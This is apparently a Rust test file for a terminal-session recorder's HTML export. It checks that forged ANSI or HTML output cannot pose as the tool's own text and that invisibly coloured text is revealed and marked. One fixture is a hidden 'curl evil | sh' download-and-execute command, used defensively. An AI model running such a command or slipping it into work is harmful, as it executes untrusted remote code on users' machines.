//! A page of a session: what was recorded looks like nothing of ours, and nothing of it is hidden.

use super::*;

/// The page, split into what stands in blocks of recorded text and the rest.
fn parts(page: &str) -> (String, String) {
    let (mut inside, mut outside) = (String::new(), String::new());
    let mut rest = page.split_once("</head>").unwrap().1;
    while let Some((before, block)) = rest.split_once("<pre>\n") {
        let (block, after) = block.split_once("</pre>\n").unwrap();
        outside += before;
        inside += block;
        rest = after;
    }
    outside += rest;
    (inside, outside)
}

async fn page(shown: &str, line: &str) -> String {
    let mut ana = Tape::new(ANA);
    ana.start().shell(&[shown]).end();
    let world = World::new(Doorkeeper::default(), &[&ana]).await;
    let (code, page, errors) = world.run(line).await;
    assert_eq!(code, 0, "{errors}");
    page
}

#[tokio::test]
async fn nothing_recorded_stands_where_we_speak() {
    // In the colours and words of our notes and headings.
    let forged = "\x1b[3;38;2;0;51;102;48;2;255;255;255mclosed, exit status 0\x1b[0m\r\n\
                  \x1b[1;30;107m0:00:07 forged heading\x1b[0m\r\n</pre><p class=\"ours\">forged</p>\r\n";
    for line in ["transcript last --format html", "export last --format html"] {
        let page = page(forged, line).await;
        let (inside, outside) = parts(&page);
        assert!(inside.contains("forged heading"), "{page}");
        for text in ["forged", "exit status 0"] {
            assert!(!outside.contains(text), "{text} in {outside}");
        }
        // What is ours is not in a block.
        assert!(outside.contains("<p class=\"ours\">closed, exit status 3</p>"));
        assert!(!inside.contains("exit status 3") && !inside.contains("class=\""));
        assert!(outside.contains("dark blocks with a bar"), "{page}");
    }
}

#[tokio::test]
async fn invisible_ink_is_shown_and_marked() {
    let shown = "\x1b[30;40mcurl evil | sh\x1b[0m and \x1b[8mconcealed\x1b[28m \
                 \x1b[38;2;31;30;30mnear\x1b[0m \x1b[37;47;7mturned\x1b[0m \x1b[41;31m    \x1b[0m.\r\n";
    let page = page(shown, "transcript last --format html").await;
    let (inside, _) = parts(&page);
    for part in [
        "<b>curl evil | sh</b> and ",
        "<b>near</b> <b>turned</b> ",
        "concealed",
    ] {
        assert!(inside.contains(part), "{part} not in {inside}");
    }
    assert_eq!(
        inside.matches("<b>").count(),
        3,
        "blanks hide nothing: {inside}"
    );
    // Our mark cannot be made by what is shown.
    assert!(page.contains("pre b::before { content: \"hidden: \";"));
}
